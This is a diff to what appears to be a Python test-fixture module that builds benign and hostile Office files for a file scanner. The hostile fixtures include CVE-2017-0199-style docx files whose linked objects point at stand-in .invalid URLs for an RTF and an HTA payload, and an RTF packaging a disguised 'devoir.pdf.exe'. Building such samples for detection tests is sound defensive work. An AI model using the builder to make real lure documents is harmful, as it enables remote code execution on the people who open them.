@@ -97,6 +97,8 @@ def pptx_with_object(blob: bytes, prog_id: str) -> bytes:
     return out.getvalue()
 
 
+# Where Word's Paste Special > Paste link of a spreadsheet's cells points: the workbook on the writer's drive.
+PASTE_LINK = "file:///C:\\Users\\prof\\Documents\\Notes 5B.xlsx!Feuil1!L1C1:L5C3"
 HYPERLINK_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
 W_NAMESPACES = (
     'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
@@ -104,10 +106,11 @@ W_NAMESPACES = (
 )
 
 
-def docx_linking(url: str) -> bytes:
+def docx_linking(url: str, prog_id: str = "Word.Document.8") -> bytes:
     """A Word document (python-docx) with a linked object as CVE-2017-0199's documents carry one: no
     embedded file, an `oleObject` relationship whose target is `url` (TargetMode External) and the
-    `o:OLEObject Type="Link"` Word updates from it at open."""
+    `o:OLEObject Type="Link"` Word updates from it at open (what Paste Special > Paste link writes too, with
+    a path on the writer's drive as the target)."""
     import docx
     from docx.oxml import parse_xml
 
@@ -119,7 +122,7 @@ def docx_linking(url: str) -> bytes:
             f'<w:object {W_NAMESPACES} xmlns:v="urn:schemas-microsoft-com:vml"'
             ' xmlns:o="urn:schemas-microsoft-com:office:office" w:dxaOrig="1520" w:dyaOrig="960">'
             '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:48pt" o:ole=""/>'
-            '<o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="_x0000_i1025" DrawAspect="Content"'
+            f'<o:OLEObject Type="Link" ProgID="{prog_id}" ShapeID="_x0000_i1025" DrawAspect="Content"'
             f' r:id="{rid}" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object>'
         )
     )
@@ -487,6 +490,8 @@ _PRODUCED: list[tuple[str, str, str, str, Callable[[Path], bytes]]] = [
     ("pptx", "volcans.pptx", PPTX, PPTX, lambda _: _pptx()),
     ("docx-embedded-pdf", "expose.docx", DOCX, DOCX, lambda _: _docx_embedding_a_pdf()),
     ("docx-external-hyperlinks", "expose.docx", DOCX, DOCX, lambda _: docx_with_hyperlinks(*SOURCES)),
+    # A teacher's Paste Special > Paste link of a spreadsheet's cells: linked to a file on her own drive.
+    ("docx-paste-linked-cells", "bilan.docx", DOCX, DOCX, lambda _: docx_linking(PASTE_LINK, "Excel.Sheet.12")),
     ("pptx-packaged-pdf", "volcans.pptx", PPTX, PPTX, lambda _: _pptx_packaging_a_pdf()),
     ("rtf-embedded-pdf-and-picture", "expose.rtf", RTF, RTF, lambda _: _rtf_embedding_a_pdf()),
     ("odt", "redaction.odt", ODT, ODT, lambda _: _odt()),
@@ -550,9 +555,9 @@ _HOSTILE: list[tuple[str, str, str, str, Callable[[], bytes]]] = [
     ("program-package-in-an-rtf", "expose.rtf", RTF, "executable",
      lambda: ole.rtf_document(ole.rtf_object(ole.ole1_package("devoir.pdf.exe", ole.PROGRAM)))),
     # Linked objects (CVE-2017-0199): Word fetches what the link names at open and runs it.
-    ("linked-object-in-a-docx", "expose.docx", DOCX, "archive_malformed",
+    ("linked-object-in-a-docx", "expose.docx", DOCX, "linked_object",
      lambda: docx_linking("http://exemple.invalid/cours.rtf")),
-    ("linked-ole-object-in-a-docx", "expose.docx", DOCX, "archive_malformed",
+    ("linked-ole-object-in-a-docx", "expose.docx", DOCX, "linked_object",
      lambda: docx_with_object(ole.linked_object("http://exemple.invalid/cours.hta"), "Word.Document.8")),
 ]  # fmt: skip
 
